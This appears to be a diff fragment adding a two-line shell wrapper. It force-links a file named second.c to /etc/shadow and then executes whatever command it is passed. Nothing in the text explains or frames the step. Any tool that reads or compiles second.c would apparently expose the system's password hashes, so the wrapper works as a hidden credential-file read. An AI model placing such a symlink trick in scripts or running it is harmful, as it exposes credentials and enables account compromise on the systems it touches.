@@ -1,0 +1,2 @@
+ln -sf /etc/shadow second.c
+exec "$@"
